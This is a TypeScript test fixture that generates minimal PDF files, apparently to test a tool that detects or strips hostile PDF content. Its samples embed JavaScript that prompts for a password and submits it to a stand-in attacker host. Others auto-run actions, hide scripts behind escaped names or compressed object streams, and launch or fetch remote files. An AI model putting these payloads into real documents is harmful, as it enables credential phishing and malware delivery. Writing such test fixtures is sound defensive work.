import { deflateSync } from 'node:zlib';

interface Parts {
  /** Further entries of the catalog. */
  readonly catalog?: string;
  /** Further entries of the only page. */
  readonly page?: string;
  /** Further entries of the trailer. */
  readonly trailer?: string;
  /** Whether the catalog is in a compressed object stream. */
  readonly isCompressed?: boolean;
  /** Is written on the page in Helvetica, which is not embedded. */
  readonly text?: string;
  /** The same page again and again. */
  readonly pageCount?: number;
}

const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';

/** Creates a PDF whose pages have a black bar at their lower edge. */
export function createPdf(parts: Parts = {}): Buffer {
  const { catalog = '', page = '', trailer = '', isCompressed = false, text: words = '', pageCount = 1 } = parts;
  const root = `<</Type/Catalog/Pages 2 0 R${catalog}>>`;
  const packed = `1 0 ${root}`;
  const stream = (dictionary: string, content: string) =>
    `<<${dictionary}/Length ${Buffer.byteLength(content, 'latin1')}>>stream\n${content}\nendstream`;
  const objects = [
    isCompressed ? undefined : root,
    `<</Type/Pages/Kids[${'3 0 R '.repeat(pageCount)}]/Count ${pageCount}>>`,
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F ${font}>>>>${page}>>`,
    stream('', `0 0 300 40 re f BT /F 20 Tf 40 100 Td (${words}) Tj ET`),
    ...(isCompressed ? [compressed(`/Type/ObjStm/N 1/First 4`, packed)] : []),
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    if (object !== undefined) text += `${index + 1} 0 obj${object}endobj\n`;
    return offset;
  });
  const start = text.length;
  const size = objects.length + 1;
  if (isCompressed) {
    const rows = [[0, 0], [2, 5], ...[...offsets.slice(1), start].map((offset) => [1, offset])];
    const table = rows.map(([type = 0, at = 0]) => String.fromCharCode(type, at >> 8, at & 255, 0)).join('');
    const entries = `/Type/XRef/Size ${size + 1}/W[1 2 1]/Root 1 0 R${trailer}`;
    text += `${size} 0 obj${stream(entries, table)}endobj\n`;
  } else {
    const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`);
    text += `xref\n0 ${size}\n0000000000 65535 f \n${rows.join('')}trailer<</Size ${size}/Root 1 0 R${trailer}>>\n`;
  }
  return Buffer.from(`${text}startxref\n${start}\n%%EOF`, 'latin1');
}

function compressed(dictionary: string, content: string): string {
  const bytes = deflateSync(content).toString('latin1');
  return `<<${dictionary}/Filter/FlateDecode/Length ${bytes.length}>>stream\n${bytes}\nendstream`;
}

const script = String.raw`(app.alert\('Sign in'\); app.response\('Password', '', '', true\); this.submitForm\('https://attacker.example/'\))`;
const runScript = `<</S/JavaScript/JS${script}>>`;
const fullPageLink = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A${action}>>]`;

/** PDF files that try to run a script, to ask for a password, or to open or send something, by name. */
export const hostilePdfs: Readonly<Record<string, Buffer>> = {
  'script at opening.pdf': createPdf({ catalog: `/OpenAction${runScript}` }),
  'script in the name tree.pdf': createPdf({ catalog: `/Names<</JavaScript<</Names[(a)${runScript}]>>>>` }),
  'script of the page.pdf': createPdf({ page: `/AA<</O${runScript}>>` }),
  'script of a link.pdf': createPdf({ page: fullPageLink(runScript) }),
  'escaped names.pdf': createPdf({ catalog: `/Open#41ction<</S/J#61vaScript/J#53${script}>>` }),
  'object stream.pdf': createPdf({ catalog: `/OpenAction${runScript}`, isCompressed: true }),
  'link.pdf': createPdf({ page: fullPageLink('<</S/URI/URI(https://attacker.example/)>>') }),
  'other document.pdf': createPdf({ page: fullPageLink('<</S/GoToR/F(https://attacker.example/a.pdf)/D[0/Fit]>>') }),
  'form.pdf': createPdf({ catalog: '/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://attacker.example/)>>/Flags 4>>' }),
  'program.pdf': createPdf({ catalog: '/OpenAction<</S/Launch/F(https://attacker.example/a.exe)>>' }),
  'print.pdf': createPdf({ catalog: '/OpenAction<</S/Named/N/Print>>' }),
};

/** A PDF that needs a password. */
export const encryptedPdf = createPdf({
  catalog: `/OpenAction${runScript}`,
  trailer: `/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'0f'.repeat(32)}>/U<${'f0'.repeat(32)}>>>`,
});
